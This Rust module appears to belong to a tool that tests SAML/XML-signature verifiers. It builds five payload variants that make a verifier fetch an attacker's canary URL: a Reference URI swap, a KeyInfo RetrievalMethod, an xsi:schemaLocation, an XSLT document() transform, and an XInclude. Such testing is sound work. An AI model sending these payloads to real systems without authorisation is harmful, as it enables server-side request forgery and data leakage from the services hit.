//! Documents that name something elsewhere, which a reader should not fetch: least of all before it knows who wrote them.

use super::Attacker;
use super::document::{Document, missing};
use super::place::{append, extensions};
use super::signature::Signature;
use crate::WireError;
use crate::names::{DSIG, XSI};
use crate::tree::Edits;
use serde::{Deserialize, Serialize};

/// What names it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum FetchForm {
    /// The URI of the Reference.
    Reference,
    /// A RetrievalMethod in KeyInfo.
    RetrievalMethod,
    /// `xsi:schemaLocation` of the Response.
    SchemaLocation,
    /// A stylesheet among the Transforms, which reads another document.
    Stylesheet,
    /// `xi:include` in Extensions.
    Xinclude,
}

impl FetchForm {
    /// All of them.
    pub const ALL: [Self; 5] = [
        Self::Reference,
        Self::RetrievalMethod,
        Self::SchemaLocation,
        Self::Stylesheet,
        Self::Xinclude,
    ];

    pub(super) fn sentence(self) -> &'static str {
        match self {
            Self::Reference => "the Reference has the URL of a document elsewhere",
            Self::RetrievalMethod => "a RetrievalMethod in KeyInfo has the URL of a key elsewhere",
            Self::SchemaLocation => "the Response names the URL of a schema",
            Self::Stylesheet => "a stylesheet among the Transforms reads a document elsewhere",
            Self::Xinclude => "Extensions include a document from elsewhere",
        }
    }
}

const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";

/// The URL of the canary, where a reader could be led to fetch it.
pub(super) fn apply(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    form: FetchForm,
) -> Result<String, WireError> {
    let (tree, url, mut edits) = (&document.tree, attacker.canary, Edits::default());
    let signature = Signature::read(document, document.signed_elements()?[0])?;
    match form {
        FetchForm::Reference => {
            let uri = tree.attribute(signature.reference, "URI");
            edits.replace(uri.ok_or_else(|| missing("URI"))?, url);
        }
        FetchForm::RetrievalMethod => {
            let key_info = tree.child(signature.signature, DSIG, "KeyInfo");
            let name = tree.sibling_name(signature.signature, "RetrievalMethod");
            let method = format!(r#"<{name} URI="{url}"></{name}>"#);
            append(document, &mut edits, key_info.ok_or_else(|| missing("KeyInfo"))?, &method);
        }
        FetchForm::SchemaLocation => {
            let place = tree.end_of_name(document.response);
            edits.insert(
                place,
                format!(r#" xmlns:loc="{XSI}" loc:schemaLocation="urn:elsewhere {url}""#),
            );
        }
        FetchForm::Stylesheet => {
            let transforms = tree.child(signature.reference, DSIG, "Transforms");
            let transforms = transforms.ok_or_else(|| missing("Transforms"))?;
            append(document, &mut edits, transforms, &stylesheet(tree.name(transforms), url));
        }
        FetchForm::Xinclude => {
            let include = r#"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude""#;
            extensions(document, &mut edits, &format!(r#"{include} href="{url}"></xi:include>"#))?;
        }
    }
    Ok(edits.apply(document.xml))
}

/// One more Transform, named like the list that it stands in.
fn stylesheet(transforms: &str, url: &str) -> String {
    let name = &transforms[..transforms.len() - 1];
    format!(
        r#"<{name} Algorithm="{XSLT}"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document('{url}')"></xsl:copy-of></xsl:template></xsl:stylesheet></{name}>"#
    )
}
